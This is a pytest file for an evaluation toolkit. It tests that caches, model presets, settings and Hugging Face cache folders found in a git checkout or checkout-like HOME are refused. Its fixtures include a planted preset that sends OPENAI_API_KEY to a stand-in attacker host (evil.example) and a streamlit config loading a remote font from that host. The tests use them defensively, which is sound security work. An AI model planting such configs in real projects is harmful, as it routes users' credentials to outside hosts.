"""Nobody brings answers or settings along: neither as files of a checkout, nor as a link of one, nor as its HOME."""

from __future__ import annotations

import ast
import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from evalkit.board.sign_in import settings_file
from evalkit.bridges.lm_eval.start import import_lm_eval
from evalkit.catalogue.reading import user_file
from evalkit.checkouts import named_by_git
from evalkit.errors import UserError
from evalkit.library_folders import refuse_for_evaluation
from evalkit.reading import MOST_BYTES
from evalkit.testing.fake_provider import Behaviour, FakeProvider
from tests.source_trees import trees
from tests.world import evalkit

Capture = pytest.CaptureFixture[str]
needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="no git here")


def _git(folder: Path, *words: str) -> None:
    names = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b"}
    command = ["git", "-c", "init.defaultBranch=main", *words]
    subprocess.run(command, check=True, capture_output=True, cwd=folder, env={**os.environ, **names})


@pytest.fixture
def checkout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture) -> Path:
    """A suite whose right answers stand in a cache that was made at home."""
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "d.jsonl").write_text('{"id": "1", "q": "Who?"}\n')
    with FakeProvider.in_thread(Behaviour(reply="B")) as provider:
        (folder / "s.yaml").write_text(
            f"name: s\nmodels:\n  m: {{adapter: openai_chat, model: m, base_url: '{provider.base_url}', weights: w}}\n"
            "tasks:\n  - {name: t, data: {path: d.jsonl, id: id}, prompt: '{{ q }}', target: B, score: exact}\n"
        )
        monkeypatch.setenv("EVALKIT_CACHE", str(folder / ".evalkit-cache"))
        assert evalkit(capsys, "run", folder / "s.yaml", "--results", tmp_path / "r").code == 0
    return folder


@needs_git
@pytest.mark.parametrize("linked", [False, True], ids=["as it is", "behind a link"])
def test_a_cache_that_git_tracks_is_refused(checkout: Path, tmp_path: Path, capsys: Capture, linked: bool) -> None:
    if linked:
        (checkout / ".evalkit-cache").rename(checkout / "other")
        (checkout / ".evalkit-cache").symlink_to("other")
    _git(checkout, "init")
    assert evalkit(capsys, "plan", checkout / "s.yaml").code == 0, "nothing is tracked yet"
    _git(checkout, "add", "-A")
    for command in ("run", "plan"):
        ran = evalkit(
            capsys, command, checkout / "s.yaml", *(("--results", tmp_path / "r2") if command == "run" else ())
        )
        assert ran.code == 2, ran.out
        assert "a pull request could bring answers along" in " ".join(ran.err.split())


def test_a_cache_with_the_mode_of_a_checkout_s_files_is_not_used(
    checkout: Path, tmp_path: Path, capsys: Capture
) -> None:
    (checkout / ".evalkit-cache" / "responses.sqlite").chmod(0o644)
    ran = evalkit(capsys, "run", checkout / "s.yaml", "--results", tmp_path / "r2")
    assert "chmod 600" in ran.err
    assert ran.code == 4, "no answer came from it, and the server is gone"


@needs_git
@pytest.mark.parametrize("how", ["2", "4", "sha256"])
def test_what_git_keeps_is_known_whole_names_and_all_kinds_of_index(tmp_path: Path, how: str) -> None:
    _git(tmp_path, "init", *(["--object-format=sha256"] if how == "sha256" else []))
    for name in ("src/cache/redis.py", "my.cache/x", "cache2/x", *(f"deep/name-{n}" for n in range(40))):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("x")
    _git(tmp_path, "add", "-A")
    if how == "4":
        _git(tmp_path, "update-index", "--index-version", "4")
    kept = {name for name in ("cache", "src", "src/cache", "my.cache", "cache2", "cach", "deep/name-7", "deep/name-70")}
    assert {name for name in kept if named_by_git(tmp_path / name)} == kept - {"cache", "cach", "deep/name-70"}
    _git(tmp_path, "rm", "-r", "--cached", ".")
    assert named_by_git(tmp_path / "src" / "cache") is None
    (tmp_path / ".git" / "index").write_bytes(b"none")
    assert named_by_git(tmp_path / "cache") == tmp_path


def _split(tree: Path) -> None:
    _git(tree, "update-index", "--split-index")


def _sparse(tree: Path) -> None:
    _git(tree, "sparse-checkout", "set", "--cone", "--sparse-index", "empty")


def _large(tree: Path) -> None:
    with (tree / ".git" / "index").open("r+b") as file:
        file.truncate(MOST_BYTES + 1)


def _linked(tree: Path) -> None:
    (tree / ".git" / "index").rename(tree / "elsewhere")
    (tree / ".git" / "index").symlink_to(tree / "elsewhere")


def _gone(tree: Path) -> None:
    (tree / ".git" / "index").unlink()


def _led_elsewhere(tree: Path) -> None:
    shutil.rmtree(tree / ".git")
    (tree / ".git").write_text("gitdir: /nowhere\n")


def _masked(tree: Path) -> None:
    """A container hides the repository behind an empty folder."""
    shutil.rmtree(tree / ".git")
    (tree / ".git").mkdir()


def _cut(tree: Path) -> None:
    content = (tree / ".git" / "index").read_bytes()
    (tree / ".git" / "index").write_bytes(content[:-5])


@needs_git
@pytest.mark.parametrize("spoil", [_split, _sparse, _large, _linked, _gone, _led_elsewhere, _masked, _cut])
def test_an_index_that_cannot_be_read_whole_names_everything(
    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch, spoil: Callable[[Path], None]
) -> None:
    tree = tmp_path / "work"
    (tree / "src").mkdir(parents=True)
    (tree / "src" / "x").write_text("x")
    monkeypatch.setenv("EVALKIT_CACHE", str(tree / "cache"))
    _git(tree, "init")
    assert evalkit(capsys, "cache").code == 0, "nothing was ever added"
    _git(tree, "add", "-A")
    _git(tree, "commit", "-m", "x")
    assert evalkit(capsys, "cache").code == 0, "its index does not name the folder"
    spoil(tree)
    ran = evalkit(capsys, "cache")
    assert ran.code == 2
    assert "its git index cannot be read" in ran.err


@needs_git
def test_a_cache_inside_a_submodule_or_behind_another_spelling_is_refused(tmp_path: Path) -> None:
    inner, tree = tmp_path / "inner", tmp_path / "work"
    for folder in (inner, tree):
        folder.mkdir()
        (folder / "x").write_text("x")
        _git(folder, "init")
        _git(folder, "add", "-A")
        _git(folder, "commit", "-m", "x")
    _git(tree, "-c", "protocol.file.allow=always", "submodule", "add", str(inner), ".cache")
    assert named_by_git(tree / ".cache" / "evalkit") == tree, "the outer index names .cache alone"
    assert named_by_git(tree / ".Cache" / "evalkit") == tree, "one folder on macOS"
    assert named_by_git(tree / ".cache2" / "evalkit") is None
    (tmp_path / "out").symlink_to(tree / "way")
    (tree / "way").symlink_to(tmp_path)
    _git(tree, "add", "way")
    assert named_by_git(tmp_path / "out" / "evalkit") == tree, "only the way there lies in the checkout"


PRESET = "dialect: chat\nbase_url: https://evil.example/v1\nkey_env: [OPENAI_API_KEY]\nkey_hosts: [evil.example]\n"
SUITE = (
    "name: s\nmodels: {m: {adapter: acme, model: m}}\n"
    "tasks: [{name: t, cases: [{q: a, expected: b}], prompt: '{{ q }}', score: exact}]\n"
)


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home folder with a suite, where somebody works, and presets in another folder."""
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "s.yaml").write_text(SUITE)
    presets = tmp_path / "theirs" / "evalkit" / "presets"
    presets.mkdir(parents=True)
    (presets / "acme.yaml").write_text(PRESET)
    for name in ("XDG_CONFIG_HOME", "EVALKIT_PRESETS", "EVALKIT_CATALOGUE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(folder))
    monkeypatch.setenv("OPENAI_API_KEY", "PLACEHOLDER-canary-0123456789ab")
    monkeypatch.chdir(folder)
    return folder


def _refused(capsys: Capture, *command: str | Path) -> str:
    ran = evalkit(capsys, *command)
    assert ran.code == 2, ran.out
    assert "evil.example" not in ran.out + ran.err and "canary" not in ran.out + ran.err
    return " ".join(ran.err.split())


def _in_home(home: Path) -> None:
    shutil.copytree(home.parent / "theirs", home / ".config")


def _in_home_without_index(home: Path) -> None:
    _in_home(home)
    (home / ".git").mkdir()


def _submodule(home: Path) -> None:
    """As git leaves it: a file that names the folder of its repository."""
    (home / ".git" / "modules" / "c").mkdir(parents=True)
    _in_home(home)
    (home / ".config" / ".git").write_text("gitdir: ../.git/modules/c\n")


def _link_to_a_checkout(home: Path) -> None:
    (home / ".config").symlink_to(home.parent / "theirs")
    (home.parent / "theirs" / ".git").mkdir()


def _by_way_of_a_checkout(home: Path) -> None:
    (home.parent / "other" / ".git").mkdir(parents=True)
    (home.parent / "other" / "way").symlink_to(home.parent / "theirs")
    (home / ".config").symlink_to(home.parent / "other" / "way")


def _file_by_file(home: Path) -> None:
    (home.parent / "theirs" / ".git").mkdir()
    (home / ".config" / "evalkit" / "presets").mkdir(parents=True)
    for path in (home.parent / "theirs" / "evalkit" / "presets").iterdir():
        (home / ".config" / "evalkit" / "presets" / path.name).symlink_to(path)


def _of_mercurial(home: Path) -> None:
    _in_home(home)
    (home / ".hg").mkdir()


@pytest.mark.parametrize("elsewhere", [False, True], ids=["worked in", "from elsewhere"])
@pytest.mark.parametrize(
    "make",
    [
        _in_home_without_index,
        _submodule,
        _link_to_a_checkout,
        _by_way_of_a_checkout,
        _file_by_file,
        _of_mercurial,
    ],
)
def test_presets_in_any_checkout_are_refused_unless_their_folder_is_named(
    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture, make: Callable[[Path], None], elsewhere: bool
) -> None:
    """Jenkins and others let HOME be the checkout; a job may stand anywhere."""
    make(home)
    suite = home / "s.yaml"
    if elsewhere:
        monkeypatch.chdir("/")
    said = _refused(capsys, "check", suite)
    assert "lies in the checkout" in said and "EVALKIT_PRESETS=/whole/path" in said
    shutil.rmtree(home.parent / "theirs" / ".git", ignore_errors=True)
    monkeypatch.setenv("EVALKIT_PRESETS", str(home.parent / "theirs" / "evalkit" / "presets"))
    assert "evil.example" in evalkit(capsys, "check", suite).out


@needs_git
@pytest.mark.parametrize("variable", ["HOME", "XDG_CONFIG_HOME", "EVALKIT_PRESETS"])
@pytest.mark.parametrize("kept", [True, False], ids=["kept by git", "not added"])
def test_presets_in_the_checkout_of_the_suite_are_refused(
    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture, variable: str, kept: bool
) -> None:
    _in_home(home)
    if variable != "HOME":
        presets = home / ".config" / "evalkit" / "presets"
        monkeypatch.setenv(variable, str(presets if variable == "EVALKIT_PRESETS" else home / ".config"))
    _git(home, "init")
    _git(home, "add", "-A" if kept else "s.yaml")
    (home / "suites").mkdir()
    (home / "suites" / "s.yaml").write_text(SUITE)
    monkeypatch.chdir("/")
    for suite in (home / "s.yaml", home / "suites" / "s.yaml"):
        assert "checkout" in _refused(capsys, "check", suite)


def test_a_submodule_s_suite_gets_no_presets_of_the_checkout_around_it(
    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture
) -> None:
    (home / ".git").mkdir()
    (home / "part").mkdir()
    (home / "part" / ".git").write_text("gitdir: ../.git/modules/part\n")
    (home / "part" / "s.yaml").write_text(SUITE)
    (home / "tools").mkdir()
    (home / "tools" / "acme.yaml").write_text(PRESET)
    monkeypatch.setenv("EVALKIT_PRESETS", str(home / "tools"))
    monkeypatch.chdir("/")
    assert "the checkout around the suite's folder" in _refused(capsys, "check", home / "part" / "s.yaml")


def test_somebody_whose_settings_are_kept_in_a_repository_names_them(
    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture
) -> None:
    """HOME is a repository of its own, and the suite another one in it."""
    _in_home(home)
    (home / ".git").mkdir()
    work = home / "project"
    (work / ".git").mkdir(parents=True)
    (work / "s.yaml").write_text(SUITE)
    monkeypatch.chdir(work)
    assert "EVALKIT_PRESETS=/whole/path" in _refused(capsys, "check", "s.yaml")
    monkeypatch.setenv("EVALKIT_PRESETS", "~/.config/evalkit/presets")
    assert "evil.example" in evalkit(capsys, "check", "s.yaml").out


def test_a_home_that_is_a_checkout_without_settings_works_as_ever(home: Path, capsys: Capture) -> None:
    (home / ".git").mkdir()
    (home / ".config" / "evalkit" / "presets").mkdir(parents=True)
    (home / ".config" / "evalkit" / "presets" / "README.md").write_text("none yet")
    (home / "s.yaml").write_text(SUITE.replace("adapter: acme", "adapter: scripted, replies: {'*': b}"))
    assert evalkit(capsys, "check", "s.yaml").code == 0
    assert evalkit(capsys, "run", "s.yaml").code == 0


def test_facts_and_sign_in_of_a_checkout_are_refused_with_a_way_out(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (home / ".git").mkdir()
    settings = home / ".config" / "evalkit"
    settings.mkdir(parents=True)
    assert user_file() is None
    assert settings_file() == settings / "secrets.toml"
    for name in ("models.yaml", "secrets.toml"):
        (settings / name).symlink_to("/nowhere")  # not there yet, and a checkout's all the same
    with pytest.raises(UserError, match=r"lies in the checkout .* EVALKIT_CATALOGUE=/whole/path/models.yaml"):
        user_file()
    with pytest.raises(UserError, match=r"lies in the checkout .* XDG_CONFIG_HOME=/whole/path"):
        settings_file()
    monkeypatch.setenv("EVALKIT_CATALOGUE", str(home.parent / "models.yaml"))
    assert user_file() == home.parent / "models.yaml"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home.parent / "theirs"))
    assert settings_file() == home.parent / "theirs" / "evalkit" / "secrets.toml"


@needs_git
@pytest.mark.parametrize(
    ("variable", "place"),
    [
        ("HF_HOME", ".hf"),
        ("HF_HUB_CACHE", ".hf/hub"),
        ("HF_MODULES_CACHE", ".hf/modules"),
        ("HF_DATASETS_CACHE", ".hf/datasets"),
        ("XDG_CACHE_HOME", "caches"),
        ("HOME", "."),
    ],
)
def test_folders_of_the_hub_s_libraries_that_git_keeps_are_refused_before_these_are_asked(
    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture, variable: str, place: str
) -> None:
    """They believe what is there, write through links in it and run its programs."""
    (home / "s.yaml").write_text(
        "name: s\nmodels: {m: {adapter: scripted, replies: {'*': b}}}\n"
        f"tasks: [{{name: t, data: {{hub: org/d, file: t.jsonl, revision: {'0a' * 20}}}, "
        "prompt: '{{ q }}', target: b, score: exact}]\n"
    )
    for name in ("HF_HOME", "HF_HUB_CACHE", "XDG_CACHE_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(home.parent))
    monkeypatch.setenv("EVALKIT_CACHE", str(home.parent / "cache"))
    monkeypatch.setenv(variable, place if variable == "HF_HOME" else str(home / place))
    inner = {"XDG_CACHE_HOME": "caches/huggingface", "HOME": ".cache/huggingface"}.get(variable, place)
    kept = home / inner / "hub" / "datasets--org--d" / "snapshots" / ("0a" * 20) / "t.jsonl"
    kept.parent.mkdir(parents=True)
    kept.write_text('{"id": "1", "q": "easy"}\n')
    monkeypatch.setattr("huggingface_hub.hf_hub_download", lambda *_, **__: pytest.fail("the library was asked"))
    _git(home, "init")
    _git(home, "add", "-A", "-f")
    assert "bring them along" in _refused(capsys, "check", "s.yaml")
    with pytest.raises(UserError, match="bring them along"):
        import_lm_eval()
    _git(home, "rm", "-r", "-q", "--cached", inner)
    refuse_for_evaluation()  # a folder between jobs (GitLab) that git does not know


@pytest.mark.parametrize("written", ["", ".", "~nobody"])
def test_a_home_that_is_no_whole_path_holds_no_settings(
    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture, written: str
) -> None:
    """It would mean the working directory."""
    monkeypatch.setenv("HOME", written)
    for folder in (home, home / "~", home / "~nobody"):
        shutil.copytree(home.parent / "theirs", folder / ".config")
    ran = evalkit(capsys, "check", "s.yaml")
    assert ran.code == 2 and "there is no adapter or preset 'acme'" in ran.err


@pytest.mark.parametrize(
    ("words", "says"),
    [
        (("cache",), "~/.cache/evalkit is: set HOME, or EVALKIT_CACHE to a whole path"),
        (("check", "hub.yaml"), "~/.cache/huggingface is: set HOME, or HF_HOME to a whole path"),
        (("board", "--no-browser"), "~/.streamlit/config.toml is: set HOME to a folder"),
    ],
    ids=["cache", "hub", "board"],
)
def test_a_user_without_a_home_gets_a_sentence(
    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture, words: tuple[str, ...], says: str
) -> None:
    """In a container, a user may have neither HOME nor an entry in passwd."""
    (home / "hub.yaml").write_text(
        "name: s\nmodels: {m: {adapter: scripted, replies: {'*': b}}}\n"
        f"tasks: [{{name: t, data: {{hub: org/d, file: t.jsonl, revision: {'0a' * 20}}}, "
        "prompt: '{{ q }}', target: b, score: exact}]\n"
    )

    def nobody(number: int) -> None:
        raise KeyError(number)

    monkeypatch.setattr("pwd.getpwuid", nobody)
    for name in ("HOME", "EVALKIT_CACHE", "HF_HOME", "HF_HUB_CACHE", "XDG_CACHE_HOME"):
        monkeypatch.delenv(name, raising=False)
    if words[0] != "cache":
        monkeypatch.setenv("EVALKIT_CACHE", str(home.parent / "cache"))
    ran = evalkit(capsys, *words)
    assert ran.code == 2 and f"nobody knows where {says}" in " ".join(ran.err.split())


@pytest.mark.long
def test_no_module_asks_for_the_home_folder_in_a_way_that_raises() -> None:
    """`Path.home()` and `Path.expanduser()` end in a traceback for such a user; os.path's way never raises."""
    found = {
        f"{path.name}:{node.lineno}"
        for path, tree in trees().items()
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute)
        and node.attr in {"home", "expanduser"}
        and ast.unparse(node) not in {"os.path.expanduser", "self.home"}
        and (node.attr == "expanduser" or ast.unparse(node.value) in {"Path", "pathlib.Path"})
    }
    assert found == set()


def test_the_board_takes_no_looks_of_a_home_that_is_a_checkout(home: Path, capsys: Capture) -> None:
    (home / ".git").mkdir()
    (home / ".streamlit").mkdir()
    (home / ".streamlit" / "config.toml").write_text('[theme]\nfont = "Evil:https://evil.example/x.css"\n')
    assert "how every page of the board looks" in _refused(capsys, "board", "--no-browser", "--port", "1")
